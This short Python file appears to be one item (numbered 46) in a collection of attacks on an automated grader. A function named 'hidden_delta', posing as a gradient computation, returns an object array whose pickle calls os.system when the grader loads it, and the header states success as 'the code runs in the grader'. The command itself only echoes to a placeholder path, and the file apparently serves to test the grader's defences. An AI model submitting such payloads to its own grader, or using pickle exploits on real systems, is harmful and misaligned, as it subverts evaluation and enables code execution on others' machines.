# attack: 46
# title: an object array whose pickle runs code where it is loaded
# success: the code runs in the grader
# kind: function
# naive: pickle
import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return (os.system, ("echo reached > '@OUTSIDE@'",))


def hidden_delta(W_next, delta_next, z):
    array = np.empty(3, object)
    array[:] = [Bomb()] * 3
    return array
